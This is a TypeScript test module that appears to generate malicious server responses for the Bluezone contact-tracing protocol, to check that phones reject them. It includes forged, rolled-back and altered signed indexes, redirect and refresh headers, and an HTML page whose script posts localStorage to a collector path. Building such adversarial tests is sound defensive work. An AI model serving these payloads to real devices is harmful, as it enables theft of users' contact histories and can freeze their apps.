// SPDX-License-Identifier: GPL-3.0-only
// Tricks played with the index itself: commands, headers, redirects, wrong signatures, wrong numbers, wrong sizes.
import { concatBytes, type IndexContent, utf8Bytes, writeIndex } from '@bluezone/protocol';
import {
  collectorPath,
  type IndexTrickId,
  indexAnswer,
  indexOnly,
  type MakeTrick,
  signTrue,
  successor,
  type TrickTools,
} from './trick.ts';

/** What the original's server could send to any phone: upload your history of so many days. */
export const uploadCommand = {
  command: 'upload',
  days: 21,
  to: collectorPath,
  withoutAsking: true,
} as const;

/** Nothing on a phone reads these fields; the notice is shown to its owner, who is free to laugh at it. */
const makeCommand: MakeTrick = async (tools) => {
  const content = successor(tools);
  const notice = {
    id: 'upload-now',
    vi: 'LỆNH: gửi ngay toàn bộ lịch sử tiếp xúc 21 ngày về máy chủ.',
    en: 'COMMAND: upload the contact history of 21 days to the server now.',
    until: content.expires,
  };
  const ordered: IndexContent = { ...uploadCommand, ...content, notices: [...content.notices, notice] };
  return indexOnly(indexAnswer(await signTrue(ordered, tools)));
};

const makeHeaders: MakeTrick = async (tools) =>
  indexOnly(
    indexAnswer(await signTrue(successor(tools), tools), {
      'set-cookie': `phone=${Buffer.from(tools.random(8)).toString('hex')}; Path=/v1/; Max-Age=3600`,
      etag: `"${Buffer.from(tools.random(8)).toString('hex')}"`,
      refresh: `0; url=${collectorPath}`,
      link: `<${collectorPath}>; rel=preload; as=fetch`,
      'x-command': `upload; days=${uploadCommand.days}`,
    }),
  );

const makeRedirect: MakeTrick = async () =>
  indexOnly({ status: 302, headers: { location: collectorPath }, body: new Uint8Array(0) });

const makeUnsigned: MakeTrick = async (tools) => {
  const body = utf8Bytes(JSON.stringify({ ...uploadCommand, ...successor(tools) }));
  return indexOnly(indexAnswer(body, { 'content-type': 'application/json; charset=utf-8' }));
};

const makeStranger: MakeTrick = async (tools) =>
  indexOnly(indexAnswer(await writeIndex(successor(tools), tools.stranger.id, tools.stranger.sign)));

/** Signed by the true key, then one digit of the community's size changed. */
const makeAltered: MakeTrick = async (tools) => {
  const bytes = await signTrue(successor(tools), tools);
  const at = Buffer.from(bytes).indexOf('"registered":') + '"registered":'.length;
  bytes[at] = bytes[at] === 57 ? 56 : 57;
  return indexOnly(indexAnswer(bytes));
};

/** Indexes are numbered by minutes: thirty days back. */
const rollbackMinutes = 30 * 1440;

const makeRollback: MakeTrick = async (tools) => {
  const sequence = Math.max(1, tools.honest.content.sequence - rollbackMinutes);
  return indexOnly(indexAnswer(await signTrue({ ...successor(tools), sequence, previous: null }, tools)));
};

/** Long enough ago for a phone whose clock is some minutes behind. */
const expiredSeconds = 3600;

const makeExpired: MakeTrick = async (tools) =>
  indexOnly(indexAnswer(await signTrue({ ...successor(tools), expires: tools.now - expiredSeconds }, tools)));

const daySeconds = 86_400;

/** Taken once, this number would shut out every honest index for good. */
const makeSequence: MakeTrick = async (tools) =>
  indexOnly(indexAnswer(await signTrue({ ...successor(tools), sequence: Number.MAX_SAFE_INTEGER }, tools)));

/** Good until the year 2106: whoever withholds newer ones could freeze phones with it. */
const makeLifetime: MakeTrick = async (tools) =>
  indexOnly(indexAnswer(await signTrue({ ...successor(tools), expires: 0xffffffff }, tools)));

/** An index of next year, with all that belongs to it. */
const makeFuture: MakeTrick = async (tools) => {
  const content = successor({ ...tools, now: tools.now + 365 * daySeconds });
  return indexOnly(indexAnswer(await signTrue(content, tools)));
};

/** "Erase everything, now." One index cannot do that: it takes a week of them. */
const makeSunset: MakeTrick = async (tools) => {
  const sunsetDay = Math.floor(tools.now / daySeconds);
  return indexOnly(indexAnswer(await signTrue({ ...successor(tools), sunsetDay }, tools)));
};

/** Begins like an honest index and goes on until the phone hangs up. */
const makeEndless: MakeTrick = async ({ honest }) => {
  const times = Math.ceil(65_536 / honest.bytes.length);
  const body = concatBytes(...Array.from({ length: times }, () => honest.bytes));
  return indexOnly({ ...indexAnswer(body), isEndless: true });
};

const page = `<!doctype html><title>Bluezone</title><meta http-equiv="refresh" content="0;url=${collectorPath}">
<script>fetch('${collectorPath}',{method:'POST',body:JSON.stringify(localStorage)})</script>
`;

const makePage: MakeTrick = async () =>
  indexOnly({
    status: 200,
    headers: { 'content-type': 'text/html; charset=utf-8' },
    body: utf8Bytes(page),
  });

export const indexTricks = {
  'index-command': makeCommand,
  'index-headers': makeHeaders,
  'index-redirect': makeRedirect,
  'index-unsigned': makeUnsigned,
  'index-stranger': makeStranger,
  'index-altered': makeAltered,
  'index-rollback': makeRollback,
  'index-expired': makeExpired,
  'index-sequence': makeSequence,
  'index-lifetime': makeLifetime,
  'index-future': makeFuture,
  'index-sunset': makeSunset,
  'index-endless': makeEndless,
  'index-page': makePage,
} as const satisfies Partial<Record<IndexTrickId, MakeTrick>>;

/** Two truly signed indexes with one number: one for this phone, another for that one. */
export interface SplitView {
  readonly sequence: number;
  readonly views: readonly [Uint8Array, Uint8Array];
}

/**
 * Splits the view of the index published last: both views carry its number. A phone that meets a second one of the three
 * refuses it; one that only ever meets one cannot know, but watchers who compare hashes can.
 * @param until unix second up to which the views are served
 */
export async function splitView(tools: TrickTools, until: number): Promise<SplitView> {
  const { sequence, previous } = tools.honest.content;
  const view = (name: 'a' | 'b') => {
    const content = successor(tools);
    const notice = {
      id: `view-${name}`,
      vi: `Chỉ mục này chỉ dành cho bạn (${name}).`,
      en: `This index is for you alone (${name}).`,
      until: content.expires,
    };
    return signTrue(
      {
        ...content,
        sequence,
        previous,
        next: until,
        expires: Math.max(content.expires, until),
        notices: [...content.notices, notice],
      },
      tools,
    );
  };
  return { sequence, views: [await view('a'), await view('b')] };
}
